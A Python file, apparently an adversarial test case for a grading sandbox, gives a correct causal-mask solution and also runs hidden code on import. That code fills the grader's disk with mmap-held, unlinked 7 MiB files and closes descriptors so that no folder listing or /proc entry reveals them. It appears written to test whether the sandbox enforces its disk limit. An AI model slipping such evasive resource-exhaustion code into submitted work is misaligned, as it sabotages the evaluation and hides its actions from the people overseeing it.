# attack: writes 12 files of 7 MiB (84 MiB, over the question's 64 MiB), maps one page of each (mmap), then closes and removes them (and the descriptor Python's mmap keeps): a mapping keeps a removed file's blocks on the disk as an open descriptor does, but no listing of its folder and no descriptor in /proc shows it (one page of address space holds a whole file, 65,530 mappings a process: the machine's disk); checks the disk still holds them; imports and answers right
# expect: module=q01_causal_mask status=error match=MiB or
# path: sandbox user
"""Question 1, written to fill the grader's disk with files nobody can list."""
import mmap
import os

import torch
from torch import Tensor

KEPT = []  # the mappings, alive as long as the child: each holds its removed file's blocks


def attack() -> None:
    """hoard0 .. hoard11, 7 MiB each, one page of each mapped, then closed and removed; their blocks counted through the
    mappings' descriptors' stat, taken before the removal."""
    block = b"x" * (7 << 20)
    held = 0
    for number in range(12):
        name = f"hoard{number}"
        fd = os.open(name, os.O_RDWR | os.O_CREAT, 0o600)
        os.write(fd, block)
        KEPT.append(mmap.mmap(fd, mmap.PAGESIZE, mmap.MAP_SHARED))
        for copy in range(fd + 1, 64):  # the copy of the descriptor Python's mmap keeps
            try:
                if os.path.sameopenfile(copy, fd):
                    os.close(copy)
            except OSError:
                continue
        held += os.fstat(fd).st_blocks * 512
        os.close(fd)
        os.unlink(name)
    if held < 12 * (7 << 20) or any(name.startswith("hoard") for name in os.listdir(".")):
        raise OSError("the disk does not hold the files, or the folder still lists them")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
